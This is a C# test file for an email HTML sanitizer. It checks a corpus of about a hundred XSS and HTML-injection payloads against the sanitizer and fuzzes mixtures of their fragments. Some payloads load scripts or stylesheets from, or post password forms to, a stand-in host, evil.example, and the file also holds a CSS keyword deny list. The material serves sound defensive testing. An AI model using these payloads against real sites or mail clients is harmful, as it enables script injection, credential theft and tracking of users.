using AngleSharp;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using CsCheck;
using Hikeshi.Messages.Html;

namespace Hikeshi.Messages.Tests.Html;

public sealed class SafeHtmlTests
{
    static readonly HashSet<string> Elements =
    [
        "html", "head", "meta", "title", "style", "body", "p", "div", "span", "b", "strong", "i", "em", "u", "s", "small", "big", "sub", "sup", "tt", "code", "pre", "blockquote", "center", "font",
        "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd", "table", "caption", "thead", "tbody", "tfoot", "tr", "td", "th", "br", "hr", "img",
    ];

    static readonly HashSet<string> Attributes =
        ["style", "class", "align", "valign", "color", "bgcolor", "width", "height", "colspan", "rowspan", "border", "cellpadding", "cellspacing", "dir", "alt", "src", "lang", "charset"];

    public static TheoryData<string> Vectors => new(Corpus);

    static readonly string[] Corpus =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/x>alert(1)</script >", "<script>alert(1)<!--</script>-->",
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG SRC=\"javascript:alert(1)\">", "<img src=`x` onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x:x onerror\r\n=alert(1)>",
        "<body onload=alert(1)>", "<body background=\"https://evil.example/b.png\">", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<math href=\"javascript:alert(1)\">x</math>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"  jAvAsCrIpT:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"https://evil.example/\" target=_blank ping=\"https://evil.example/p\">x</a>", "<area href=\"javascript:alert(1)\" shape=default>", "<base href=\"https://evil.example/\">", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">", "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"a=b\">",
        "<link rel=stylesheet href=\"https://evil.example/s.css\">", "<link rel=prefetch href=//evil.example>", "<style>@import 'https://evil.example/s.css';</style>", "<style>body{background:url(https://evil.example/b)}</style>", "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
        "<div style=\"background:url(https://evil.example/b)\">x</div>", "<div style=\"background-image:u\\72l(https://evil.example)\">x</div>", "<div style=\"width:expression(alert(1))\">x</div>", "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>", "<div style=\"behavior:url(x.htc)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff\">x</div>", "<div style=\"position:absolute;left:-9999px\">x</div>", "<div style=\"margin-left:-500px\">x</div>", "<div style=\"display:none\">hidden</div>", "<span style=\"font-size:0\">hidden</span>", "<div style=\"color:red;/**/posi/**/tion:fixed\">x</div>", "<div style='font-family:\"x\";}body{background:url(//evil.example)}'>x</div>",
        "<form action=\"https://evil.example/\"><input name=u><input type=password name=p><button>OK</button></form>", "<button formaction=\"javascript:alert(1)\">x</button>", "<input type=image src=\"https://evil.example/i\" onfocus=alert(1) autofocus>", "<textarea><img src=x onerror=alert(1)></textarea>", "<select onchange=alert(1)><option>x</select>", "<isindex action=javascript:alert(1) type=image>", "<keygen autofocus onfocus=alert(1)>",
        "<iframe src=\"https://evil.example/\"></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object>", "<embed src=\"javascript:alert(1)\">", "<applet code=x></applet>", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<template><img src=x onerror=alert(1)></template>", "<dialog open onclose=alert(1)>x</dialog>", "<portal src=https://evil.example>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<title><a title=\"</title><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">", "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>", "<!DOCTYPE html [<!ENTITY x \"<img src=x onerror=alert(1)>\">]>&x;",
        "<table><td><form><table><img src=x onerror=alert(1)>", "<p><table><tr><p><td><script>alert(1)</script>", "<b><p></b><img src=x onerror=alert(1)></p>", "<a><table><a>x</table></a>", "<td>outside a table<tr><th>x", "<table><b>moved</b><tr><td>x", "<li><ul><li><p>x<li>y", "<select><template><img src=x onerror=alert(1)>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<img srcset=\"https://evil.example/1 1x\" src=\"https://evil.example/2\">", "<picture><source srcset=https://evil.example/x><img src=x></picture>", "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">", "<img src=\"data:image/png;base64,AAAA\" onload=alert(1)>", "<img src=\"//evil.example/x.png\" alt=\"<script>\">",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\u202Etxt.exe\u202C <b>bidi</b>", "<p style=\"direction:rtl;unicode-bidi:bidi-override\">x</p>", "<div id=main class=skip>x</div>", "<p contenteditable autofocus onfocus=alert(1)>x", "<x onclick=alert(1)>x</x>", "<custom-element>x</custom-element>",
    ];

    [Theory]
    [MemberData(nameof(Vectors))]
    public void Nothing_that_acts_survives(string hostile) => AssertHarmless(SafeHtml.Of(hostile, "ja").Document);

    [Fact]
    public void Nothing_that_acts_survives_any_mixture_of_hostile_pieces() => Gen.OneOf(Corpus.SelectMany(Halves).Select(Gen.Const).ToArray()).Array[1, 8].Select(string.Concat)
        .Sample(hostile => AssertHarmless(SafeHtml.Of(hostile, "en").Document), iter: 800, threads: 1, writeLine: null);

    static IEnumerable<string> Halves(string vector) => [vector, vector[..(vector.Length / 2)], vector[(vector.Length / 2)..]];

    static void AssertHarmless(string document)
    {
        var parser = new HtmlParser();
        var read = parser.ParseDocument(document);
        foreach (var element in read.All)
        {
            Assert.Contains(element.LocalName, Elements);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, Attributes);
                if (attribute.Name == "src") Assert.StartsWith("data:image/", attribute.Value, StringComparison.Ordinal);
                if (attribute.Name is "class") Assert.Equal("hk", attribute.Value);
                if (attribute.Name is not "style") continue;
                foreach (var evil in (string[])["url", "expression", "import", "binding", "behavior", "position", "fixed", "z-index", "display", "\\", "/*", "float", "transform", "javascript"])
                    Assert.DoesNotContain(evil, attribute.Value, StringComparison.OrdinalIgnoreCase);
            }
        }
        Assert.Single(read.QuerySelectorAll("style"));
        Assert.Equal("head", read.QuerySelector("style")!.ParentElement!.LocalName);
        // The tree is the one that was written: no parser moves, closes or adopts anything.
        Assert.Equal(document.Split('<').Count(t => t.Length > 0 && char.IsAsciiLetter(t[0])), read.All.Length);
        Assert.Equal(read.ToHtml(), parser.ParseDocument(read.ToHtml()).ToHtml());
    }

    [Fact]
    public void Says_where_links_lead_and_what_was_not_loaded()
    {
        var safe = SafeHtml.Of("<p>ご確認は<a href=\"https://evil.example/login?a=1&b=2\">https://bank.example/</a>へ</p><img src=https://track.example/p.gif alt=ロゴ><form action=http://evil.example/><input type=password></form>", "ja");
        var text = new HtmlParser().ParseDocument(safe.Document).Body!.TextContent;
        Assert.Contains("[→ hxxps[:]//evil[.]example/login?a=1&b=2]", text, StringComparison.Ordinal);
        Assert.Contains("[読み込んでいない画像 track[.]example: ロゴ]", text, StringComparison.Ordinal);
        Assert.Contains("[入力画面の送信先 → hxxp[:]//evil[.]example/]", text, StringComparison.Ordinal);
        Assert.Contains("[パスワードの入力欄]", text, StringComparison.Ordinal);
        Assert.Equal(1, safe.LeftOut.Pictures);
    }

    [Fact]
    public void Keeps_what_makes_a_mail_readable()
    {
        var safe = SafeHtml.Of("<table border=1><tr><td style=\"color:#c00;font-weight:bold\">単価<td>100円</table><ul><li>一<li>二</ul><p>本文<b>太字</b></p>", "ja").Document;
        Assert.Contains("<table border=\"1\"><tbody><tr><td style=\"color:#c00;font-weight:bold;\">単価</td><td>100円</td></tr></tbody></table><ul><li>一</li><li>二</li></ul><p>本文<b>太字</b></p>", safe, StringComparison.Ordinal);
    }

    [Fact]
    public void Text_that_a_style_would_hide_is_shown()
    {
        var safe = SafeHtml.Of("<div style=\"display:none\">隠し文字</div><span style=\"font-size:0px\">小さな文字</span>", "ja");
        Assert.Contains("隠し文字", safe.Document, StringComparison.Ordinal);
        Assert.DoesNotContain("font-size:0", safe.Document, StringComparison.Ordinal);
        Assert.Equal(2, safe.LeftOut.Styles);
    }

    [Theory]
    [InlineData("<b>", 60_000)]
    [InlineData("<table><tr><td>", 20_000)]
    [InlineData("<div style=\"color:red\">", 100_000)]
    [InlineData("<a href=x>", 30_000)]
    [InlineData("<svg>", 60_000)]
    [InlineData("x", 50_000_000)]
    public void Markup_without_end_is_cut_and_counted(string piece, int times)
    {
        var safe = SafeHtml.Of(string.Concat(Enumerable.Repeat(piece, times)), "ja");
        Assert.True(safe.Document.Length < 3_000_000, $"{safe.Document.Length}");
        Assert.Equal(Math.Max(0, piece.Length * times - SafeHtml.SourceChars), safe.LeftOut.Chars);
    }
}
